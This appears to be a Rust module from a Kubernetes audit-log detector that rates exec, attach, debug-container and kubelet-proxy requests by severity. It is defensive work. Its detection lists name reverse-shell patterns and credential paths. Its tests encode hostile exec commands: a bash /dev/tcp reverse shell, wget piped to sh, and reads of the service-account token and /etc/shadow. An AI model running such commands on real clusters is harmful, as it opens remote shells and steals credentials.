//! How bad one interactive request is, read from what it runs or reaches:
//! the exec command in `requestURI`, the kubelet path behind `nodes/proxy`,
//! the debug container in the request body. Pure, like the rest of
//! `classify`; the detail it writes is bounded and free of control
//! characters, whatever the client sent.

use std::borrow::Cow;

use serde_json::Value;

use crate::decode::Event;
use crate::model::Severity::{self, Critical, High, Low, Medium};

/// The longest command or path quoted in a detail.
const DETAIL_CHARS: usize = 200;

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Triage {
    pub severity: Severity,
    /// Stable snake_case id, e.g. `exec_credential_access`.
    pub rule: &'static str,
    pub detail: String,
}

impl Triage {
    fn new(severity: Severity, rule: &'static str, detail: String) -> Triage {
        Triage {
            severity,
            rule,
            detail,
        }
    }
}

/// For an interactive request (pods/exec, pods/attach, pods/portforward,
/// pods/ephemeralcontainers, */proxy): how bad it is.
pub fn triage(ev: &Event<'_>) -> Triage {
    match (ev.resource(), ev.subresource()) {
        ("pods", "exec") => exec(ev),
        ("pods", "attach") => {
            // The container's main process: its stdin, whatever it is.
            let detail = format!("attach to container {}", param(ev, "container"));
            Triage::new(High, "pod_attach", detail)
        }
        ("pods", "portforward") => {
            let detail = format!("port-forward to ports {}", param(ev, "ports"));
            Triage::new(Medium, "pod_portforward", detail)
        }
        ("pods", "ephemeralcontainers") => ephemeral(ev),
        ("nodes", "proxy") => kubelet(ev),
        (_, "proxy") => proxy(ev),
        (_, sub) => Triage::new(
            High,
            "interactive_access",
            format!("subresource {}", quote(sub)),
        ),
    }
}

/// A query parameter, quoted for a detail; `(none)` when absent.
fn param(ev: &Event<'_>, key: &str) -> String {
    ev.query_param(key)
        .map_or_else(|| "(none)".to_owned(), |v| quote(&v))
}

// ---- exec ----------------------------------------------------------------

/// Shells, by the basename of argv[0].
const SHELLS: &[&str] = &["sh", "bash", "ash", "zsh", "dash", "ksh", "mksh", "fish"];

/// Interpreters that take a program on the command line, and its flag.
const INTERPRETERS: &[(&str, char)] = &[
    ("python", 'c'),
    ("python2", 'c'),
    ("python3", 'c'),
    ("perl", 'e'),
    ("ruby", 'e'),
    ("node", 'e'),
    ("php", 'r'),
    ("lua", 'e'),
];

/// Shapes of a shell connected back to someone (lowercased substrings).
const REVERSE_SHELL: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "mkfifo",
    "nc -e",
    "nc -c",
    "ncat -e",
    "ncat -c",
    "netcat -e",
    "socat exec:",
    "socat tcp",
    "pty.spawn",
    "socket.socket",
    "fsockopen",
    "tcpsocket",
    "new net.socket",
];

/// Where credentials live in a container or on a node (lowercased).
const CREDENTIALS: &[&str] = &[
    "/var/run/secrets/kubernetes.io",
    "/run/secrets/kubernetes.io",
    "/var/run/secrets/eks.amazonaws.com",
    "/etc/shadow",
    "~/.kube",
    ".kube/config",
    "/etc/kubernetes/",
    ".aws/credentials",
    ".docker/config.json",
    ".ssh/id_",
    "token",
];

/// Tools that move data off the pod, by basename of a word.
const NETWORK_TOOLS: &[&str] = &[
    "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "scp", "sftp", "ftp", "tftp",
];

/// A payload that hides what it runs.
const OBFUSCATION: &[&str] = &["base64 -d", "base64 --decode", "xxd -r", "eval ", "\\x"];

fn exec(ev: &Event<'_>) -> Triage {
    let uri = ev.request_uri();
    let argv = commands(&uri);
    if argv.is_empty() {
        // The kubelet refuses an exec without a command: the URI was cut.
        return Triage::new(
            High,
            "exec_unrecorded",
            "exec: command not recorded".to_owned(),
        );
    }
    let shown = format!("exec: {}", quote_argv(&argv));
    let (rule, severity) = exec_rule(&argv);
    Triage::new(severity, rule, shown)
}

/// The `command=` parameters of an exec URI, in order, decoded.
fn commands(uri: &str) -> Vec<Cow<'_, str>> {
    let Some((_, query)) = uri.split_once('?') else {
        return Vec::new();
    };
    form_urlencoded::parse(query.as_bytes())
        .filter(|(k, _)| k == "command")
        .map(|(_, v)| v)
        .collect()
}

fn exec_rule(argv: &[Cow<'_, str>]) -> (&'static str, Severity) {
    let argv = unwrap_launchers(argv);
    let program = argv.first().map_or("", |a| basename(a));
    let flag = if SHELLS.contains(&program) {
        Some('c')
    } else {
        INTERPRETERS
            .iter()
            .find(|(name, _)| *name == program)
            .map(|(_, f)| *f)
    };
    let Some(flag) = flag else {
        // A plain command: its words are what it does.
        let text = argv
            .iter()
            .map(|a| a.as_ref())
            .collect::<Vec<_>>()
            .join(" ");
        return content_rule(&text).unwrap_or(("exec_command", Medium));
    };
    match program_after(argv, flag) {
        Some(payload) => content_rule(&payload).unwrap_or_else(|| {
            if has_any(&payload.to_lowercase(), OBFUSCATION) {
                ("exec_shell", High)
            } else {
                ("exec_command", Medium)
            }
        }),
        // No program given: a prompt, or a script file we cannot read.
        None => ("exec_shell", High),
    }
}

/// `env FOO=1 sh`, `busybox sh`, `/usr/bin/env bash`: the program run.
fn unwrap_launchers<'a>(argv: &'a [Cow<'a, str>]) -> &'a [Cow<'a, str>] {
    let mut rest = argv;
    while let Some((first, tail)) = rest.split_first() {
        match basename(first) {
            "busybox" | "toybox" | "exec" | "nohup" | "setsid" => rest = tail,
            "env" => {
                let skip = tail
                    .iter()
                    .take_while(|a| a.contains('=') || a.starts_with('-'));
                rest = &tail[skip.count()..];
            }
            _ => break,
        }
    }
    rest
}

/// The program text after `-c` (or `-lc`, `-ec`...; `-e` for perl): the
/// rest of the command line, as the shell would read it.
fn program_after(argv: &[Cow<'_, str>], flag: char) -> Option<String> {
    let at = argv
        .iter()
        .skip(1)
        .position(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(flag))?;
    let rest: Vec<&str> = argv.iter().skip(at + 2).map(|a| a.as_ref()).collect();
    Some(rest.join(" "))
}

/// The worst thing a command text shows, if any.
fn content_rule(text: &str) -> Option<(&'static str, Severity)> {
    let lower = text.to_lowercase();
    if has_any(&lower, REVERSE_SHELL) {
        return Some(("exec_reverse_shell", Critical));
    }
    if has_any(&lower, CREDENTIALS) {
        return Some(("exec_credential_access", Critical));
    }
    let words = lower.split(|c: char| c.is_whitespace() || "|;&()<>`\"'$".contains(c));
    if words.map(basename).any(|w| NETWORK_TOOLS.contains(&w)) {
        return Some(("exec_network_tool", Critical));
    }
    None
}

fn has_any(text: &str, needles: &[&str]) -> bool {
    needles.iter().any(|n| text.contains(n))
}

fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

// ---- ephemeral containers -------------------------------------------------

/// `kubectl debug`: a new container in a running pod, sharing the target
/// container's process namespace when `targetContainerName` is set.
fn ephemeral(ev: &Event<'_>) -> Triage {
    let body = ev
        .request_object
        .and_then(|raw| serde_json::from_str::<Value>(raw.get()).ok())
        .unwrap_or(Value::Null);
    let list = body
        .pointer("/spec/ephemeralContainers")
        .or_else(|| body.get("ephemeralContainers"))
        .and_then(Value::as_array);
    let Some(list) = list.filter(|l| !l.is_empty()) else {
        return Triage::new(
            High,
            "ephemeral_container",
            "debug container (body not recorded)".to_owned(),
        );
    };
    let privileged = list.iter().any(is_privileged);
    let described: Vec<String> = list.iter().map(describe_debug).collect();
    let detail = escape(&format!("debug container {}", described.join(", ")));
    if privileged {
        Triage::new(Critical, "ephemeral_container_privileged", detail)
    } else {
        Triage::new(High, "ephemeral_container", detail)
    }
}

/// Privileged, or with the capabilities that amount to it
/// (`kubectl debug --profile=sysadmin`).
fn is_privileged(container: &Value) -> bool {
    let sc = container.get("securityContext");
    let flag = sc.and_then(|s| s.get("privileged")) == Some(&Value::Bool(true));
    let caps = sc
        .and_then(|s| s.pointer("/capabilities/add"))
        .and_then(Value::as_array)
        .into_iter()
        .flatten()
        .filter_map(Value::as_str)
        .any(|c| {
            matches!(
                c.to_ascii_uppercase().trim_start_matches("CAP_"),
                "SYS_ADMIN" | "ALL"
            )
        });
    flag || caps
}

fn describe_debug(container: &Value) -> String {
    let field = |k: &str| container.get(k).and_then(Value::as_str).unwrap_or("");
    let mut s = format!("{} (image {})", quote(field("name")), quote(field("image")));
    let target = field("targetContainerName");
    if !target.is_empty() {
        s.push_str(&format!(" targeting {}", quote(target)));
    }
    if is_privileged(container) {
        s.push_str(" privileged");
    }
    s
}

// ---- proxies ----------------------------------------------------------------

/// Kubelet endpoints, by the first segment after `/proxy/`. `run` and
/// `exec` run commands in any pod of the node; `pods` lists every pod spec
/// with its env; `checkpoint` dumps a container's memory.
const KUBELET: &[(&str, &str, Severity)] = &[
    ("run", "kubelet_exec", Critical),
    ("exec", "kubelet_exec", Critical),
    ("attach", "kubelet_exec", Critical),
    ("portforward", "kubelet_portforward", Critical),
    ("cri", "kubelet_cri", Critical),
    ("debug", "kubelet_debug", Critical),
    ("pods", "kubelet_pods", Critical),
    ("runningpods", "kubelet_pods", Critical),
    ("checkpoint", "kubelet_checkpoint", Critical),
    ("configz", "kubelet_config", High),
    ("logs", "kubelet_logs", High),
    ("containerlogs", "kubelet_logs", High),
];

/// Read-only kubelet paths a metrics scraper uses.
const SCRAPE_PATHS: &[&str] = &[
    "metrics",
    "metrics/cadvisor",
    "metrics/probes",
    "metrics/resource",
    "stats/summary",
    "healthz",
];

fn kubelet(ev: &Event<'_>) -> Triage {
    if is_declared_scrape(ev) {
        let detail = format!(
            "kubelet scrape {}",
            quote(&proxied_path(ev).unwrap_or_default())
        );
        return Triage::new(Low, "kubelet_scrape", detail);
    }
    let path = proxied_path(ev).unwrap_or_default();
    let detail = format!("kubelet {}", quote(&path));
    let first = normalize(&path)
        .into_iter()
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    match KUBELET.iter().find(|(segment, _, _)| *segment == first) {
        Some((_, rule, severity)) => Triage::new(*severity, rule, detail),
        None => Triage::new(High, "kubelet_proxy", detail),
    }
}

/// A read-only kubelet scrape through nodes/proxy: verb `get` and the path
/// after `/proxy/` exactly one of metrics, metrics/cadvisor, metrics/probes,
/// metrics/resource, stats/summary, healthz (query string ignored, no `..`,
/// no extra segments). Never decided by verb alone.
pub fn is_declared_scrape(ev: &Event<'_>) -> bool {
    ev.verb() == "get"
        && ev.resource() == "nodes"
        && ev.subresource() == "proxy"
        && proxied_path(ev).is_some_and(|p| SCRAPE_PATHS.contains(&p.as_str()))
}

/// The percent-decoded path after `/proxy/` of `requestURI`, query
/// removed: `/api/v1/nodes/n1/proxy/metrics?x` is `metrics`.
fn proxied_path(ev: &Event<'_>) -> Option<String> {
    let uri = ev.request_uri();
    let path = uri.split_once('?').map_or(&*uri, |(p, _)| p);
    let segments: Vec<&str> = path.split('/').collect();
    // ["", "api", "v1", ("namespaces", ns,)? resource, name, "proxy", rest...]
    let at = segments.iter().position(|s| *s == "proxy")?;
    let rest = segments[at + 1..].join("/");
    Some(percent_decode(&rest))
}

/// Path segments with `.`, `..` and empty ones resolved, as the kubelet's
/// router would see them.
fn normalize(path: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for seg in path.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                out.pop();
            }
            s => out.push(s.to_owned()),
        }
    }
    out
}

/// Paths that reach an application's admin side.
const ADMIN_PATHS: &[&str] = &[
    "admin",
    "api/v1/",
    "actuator",
    "console",
    "debug/pprof",
    "jolokia",
    "manager/html",
];

fn proxy(ev: &Event<'_>) -> Triage {
    let path = proxied_path(ev).unwrap_or_default();
    let detail = format!("{} proxy {}", ev.resource(), quote(&path));
    let lower = path.to_lowercase();
    if has_any(&lower, ADMIN_PATHS) {
        return Triage::new(High, "proxy_admin_path", detail);
    }
    let rule = if ev.resource() == "pods" {
        "pod_proxy"
    } else {
        "service_proxy"
    };
    Triage::new(Medium, rule, detail)
}

fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok());
        match (bytes[i], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(b)) => {
                out.push(b);
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

// ---- details --------------------------------------------------------------

/// An argv as a reader would type it, bounded and escaped.
fn quote_argv(argv: &[Cow<'_, str>]) -> String {
    let words: Vec<Cow<'_, str>> = argv
        .iter()
        .map(|a| {
            if !a.is_empty() && !a.contains(|c: char| c.is_whitespace() || c == '\'' || c == '"') {
                Cow::Borrowed(a.as_ref())
            } else {
                Cow::Owned(format!("'{}'", a.replace('\'', r"'\''")))
            }
        })
        .collect();
    escape(&words.join(" "))
}

/// `"text"` with control characters escaped, bounded.
fn quote(s: &str) -> String {
    format!("\"{}\"", escape(s))
}

/// Control characters escaped (`\n`, `\u{1b}`), cut at [`DETAIL_CHARS`]
/// characters with `…`, never inside an escape.
fn escape(s: &str) -> String {
    let mut out = String::new();
    let mut count = 0;
    for c in s.chars() {
        let piece: String = if c.is_control() {
            c.escape_default().collect()
        } else {
            c.to_string()
        };
        let len = piece.chars().count();
        if count + len > DETAIL_CHARS {
            out.push('…');
            break;
        }
        count += len;
        out.push_str(&piece);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(verb: &str, resource: &str, sub: &str, uri: &str, body: Option<&str>) -> String {
        let mut doc = serde_json::json!({
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": "Request",
            "auditID": "7c6b5a49-0000-4000-8000-000000000002",
            "stage": "ResponseStarted",
            "requestURI": uri,
            "verb": verb,
            "user": {"username": "alice@example.com", "groups": ["system:authenticated"]},
            "sourceIPs": ["203.0.113.7"],
            "userAgent": "kubectl/v1.31.2 (linux/amd64) kubernetes/abc1234",
            "objectRef": {"resource": resource, "subresource": sub, "namespace": "shop", "name": "web-0", "apiVersion": "v1"},
            "responseStatus": {"metadata": {}, "code": 101},
        });
        if let Some(body) = body {
            doc["requestObject"] = serde_json::from_str(body).unwrap();
        }
        doc.to_string()
    }

    fn triage_of(json: &str) -> Triage {
        let ev: Event<'_> = serde_json::from_str(json).unwrap();
        triage(&ev)
    }

    fn exec_of(query: &str) -> Triage {
        let uri = format!("/api/v1/namespaces/shop/pods/web-0/exec?{query}");
        triage_of(&event("get", "pods", "exec", &uri, None))
    }

    #[test]
    fn exec_commands_by_what_they_run() {
        let cases = [
            // Falco's "Attach/Exec Pod" and Elastic's exec rules' shapes.
            (
                "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=app&stderr=true&stdout=true",
                "exec_credential_access",
                Critical,
            ),
            (
                "command=sh&command=-c&command=cat+%2Fetc%2Fshadow&container=app&stdout=true",
                "exec_credential_access",
                Critical,
            ),
            (
                "command=%2Fbin%2Fbash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261&container=app",
                "exec_reverse_shell",
                Critical,
            ),
            (
                "command=busybox&command=sh&command=-c&command=wget+-qO-+http%3A%2F%2F203.0.113.9%2Fx%7Csh",
                "exec_network_tool",
                Critical,
            ),
            (
                "command=python3&command=-c&command=import+socket%2Csubprocess%2Cos%3Bs%3Dsocket.socket()",
                "exec_reverse_shell",
                Critical,
            ),
            (
                "command=curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
                "exec_network_tool",
                Critical,
            ),
            (
                "command=%2Fbin%2Fsh&container=app&stdin=true&stdout=true&tty=true",
                "exec_shell",
                High,
            ),
            (
                "command=bash&command=-il&stdin=true&tty=true",
                "exec_shell",
                High,
            ),
            (
                "command=env&command=TERM%3Dxterm&command=zsh&stdin=true&tty=true",
                "exec_shell",
                High,
            ),
            (
                "command=sh&command=-c&command=echo+Y3VybA%3D%3D+%7C+base64+-d+%7C+sh",
                "exec_shell",
                High,
            ),
            (
                "command=ls&command=-la&command=%2Ftmp&container=app&stdout=true",
                "exec_command",
                Medium,
            ),
            ("command=cat&command=%2Ftmp%2Fx", "exec_command", Medium),
            ("command=date", "exec_command", Medium),
            (
                "command=sh&command=-c&command=ls+%2Fapp",
                "exec_command",
                Medium,
            ),
        ];
        for (query, rule, severity) in cases {
            let t = exec_of(query);
            assert_eq!(
                (t.rule, t.severity),
                (rule, severity),
                "{query}: {}",
                t.detail
            );
        }
    }

    #[test]
    fn exec_detail_quotes_the_command_bounded_and_escaped() {
        let t = exec_of(
            "command=sh&command=-c&command=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
        );
        assert_eq!(
            t.detail,
            "exec: sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'"
        );
        let long = format!("command=echo&command={}%1B%5B2J%0A", "a".repeat(300));
        let t = exec_of(&long);
        assert!(
            t.detail.chars().count() <= "exec: ".len() + DETAIL_CHARS + 1,
            "{}",
            t.detail
        );
        assert!(!t.detail.chars().any(char::is_control));
        let t = exec_of("command=printf&command=%1B%5B2J%0Ahi");
        assert_eq!(t.detail, r"exec: printf '\u{1b}[2J\nhi'");
        assert_eq!(exec_of("container=app").rule, "exec_unrecorded");
    }

    #[test]
    fn attach_portforward_and_debug() {
        let attach = triage_of(&event(
            "create",
            "pods",
            "attach",
            "/api/v1/namespaces/shop/pods/web-0/attach?container=app&stdin=true",
            None,
        ));
        assert_eq!((attach.rule, attach.severity), ("pod_attach", High));
        let pf = triage_of(&event(
            "get",
            "pods",
            "portforward",
            "/api/v1/namespaces/shop/pods/web-0/portforward?ports=5432",
            None,
        ));
        assert_eq!(
            (pf.rule, pf.severity, pf.detail.as_str()),
            ("pod_portforward", Medium, "port-forward to ports \"5432\"")
        );
        let debug = r#"{"spec":{"ephemeralContainers":[{"name":"debugger-8xk2p","image":"busybox:1.36","targetContainerName":"app","stdin":true,"tty":true}]}}"#;
        let t = triage_of(&event(
            "patch",
            "pods",
            "ephemeralcontainers",
            "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers",
            Some(debug),
        ));
        assert_eq!((t.rule, t.severity), ("ephemeral_container", High));
        assert_eq!(
            t.detail,
            r#"debug container "debugger-8xk2p" (image "busybox:1.36") targeting "app""#
        );
        let sysadmin = r#"{"kind":"EphemeralContainers","ephemeralContainers":[{"name":"d","image":"busybox","securityContext":{"privileged":true}}]}"#;
        let t = triage_of(&event(
            "update",
            "pods",
            "ephemeralcontainers",
            "/api/v1/namespaces/shop/pods/web-0/ephemeralcontainers",
            Some(sysadmin),
        ));
        assert_eq!(
            (t.rule, t.severity),
            ("ephemeral_container_privileged", Critical)
        );
        let off = debug.replace(
            r#""tty":true"#,
            r#""tty":true,"securityContext":{"privileged":false}"#,
        );
        let t = triage_of(&event(
            "patch",
            "pods",
            "ephemeralcontainers",
            "/x",
            Some(&off),
        ));
        assert_eq!(t.severity, High);
    }

    fn node_proxy(verb: &str, rest: &str) -> String {
        event(
            verb,
            "nodes",
            "proxy",
            &format!("/api/v1/nodes/ip-10-0-1-5.ec2.internal/proxy/{rest}"),
            None,
        )
    }

    #[test]
    fn kubelet_paths() {
        let cases = [
            ("run/shop/web-0/app?cmd=id", "kubelet_exec", Critical),
            ("exec/shop/web-0/app?command=sh", "kubelet_exec", Critical),
            ("portForward/shop/web-0", "kubelet_portforward", Critical),
            ("pods", "kubelet_pods", Critical),
            ("cri/exec/abc", "kubelet_cri", Critical),
            ("debug/pprof/heap", "kubelet_debug", Critical),
            ("metrics/../run/shop/web-0/app", "kubelet_exec", Critical),
            (
                "metrics%2F..%2Frun/shop/web-0/app",
                "kubelet_exec",
                Critical,
            ),
            ("configz", "kubelet_config", High),
            ("logs/syslog", "kubelet_logs", High),
            ("spec/", "kubelet_proxy", High),
            ("metrics/cadvisor", "kubelet_scrape", Low),
            (
                "stats/summary?only_cpu_and_memory=true",
                "kubelet_scrape",
                Low,
            ),
        ];
        for (rest, rule, severity) in cases {
            let t = triage_of(&node_proxy("get", rest));
            assert_eq!(
                (t.rule, t.severity),
                (rule, severity),
                "{rest}: {}",
                t.detail
            );
        }
    }

    #[test]
    fn declared_scrapes_are_exact() {
        let scrape = |verb: &str, rest: &str| {
            let json = node_proxy(verb, rest);
            let ev: Event<'_> = serde_json::from_str(&json).unwrap();
            is_declared_scrape(&ev)
        };
        for rest in [
            "metrics",
            "metrics/cadvisor",
            "metrics/probes",
            "metrics/resource",
            "stats/summary",
            "healthz",
            "metrics?foo=bar",
        ] {
            assert!(scrape("get", rest), "{rest}");
        }
        // Not get; extra segments; `..`; a prefix; a trailing slash; encoded tricks.
        for (verb, rest) in [
            ("create", "metrics"),
            ("get", "metrics/cadvisor/extra"),
            ("get", "metrics/../run/a/b/c"),
            ("get", "metricsx"),
            ("get", "metrics/"),
            ("get", "stats"),
            ("get", "%2E%2E/metrics"),
            ("get", "run/a/b/c?x=metrics"),
        ] {
            assert!(!scrape(verb, rest), "{verb} {rest}");
        }
        // A pod's own /metrics through pods/proxy is not a kubelet scrape.
        let pod = event(
            "get",
            "pods",
            "proxy",
            "/api/v1/namespaces/shop/pods/web-0:9090/proxy/metrics",
            None,
        );
        let ev: Event<'_> = serde_json::from_str(&pod).unwrap();
        assert!(!is_declared_scrape(&ev));
    }

    #[test]
    fn pod_and_service_proxies() {
        let svc = |rest: &str| {
            triage_of(&event(
                "get",
                "services",
                "proxy",
                &format!("/api/v1/namespaces/shop/services/https:web:443/proxy/{rest}"),
                None,
            ))
        };
        assert_eq!(
            (svc("index.html").rule, svc("index.html").severity),
            ("service_proxy", Medium)
        );
        assert_eq!(svc("actuator/env").severity, High);
        assert_eq!(svc("admin/login").rule, "proxy_admin_path");
        let pod = triage_of(&event(
            "get",
            "pods",
            "proxy",
            "/api/v1/namespaces/shop/pods/web-0:8080/proxy/healthz",
            None,
        ));
        assert_eq!((pod.rule, pod.severity), ("pod_proxy", Medium));
        assert_eq!(pod.detail, "pods proxy \"healthz\"");
    }
}
